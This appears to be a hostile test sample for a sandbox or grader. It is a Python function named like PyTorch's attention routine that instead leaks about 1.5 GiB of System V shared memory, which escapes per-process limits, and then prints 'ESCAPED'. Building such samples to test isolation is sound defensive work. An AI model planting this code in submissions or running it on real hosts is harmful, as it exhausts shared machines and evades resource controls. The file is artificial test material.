# hostile: eats memory through System V segments, which belong to no process
# line: B6
# verdict: memory
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
    for _ in range(24):  # 1.5 GiB
        identifier = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)
        if identifier < 0:
            return query
        area = libc.shmat(identifier, None, 0)
        ctypes.memset(area, 1, 64 << 20)
        libc.shmdt(ctypes.c_void_p(area))
    print("ESCAPED")
    return query
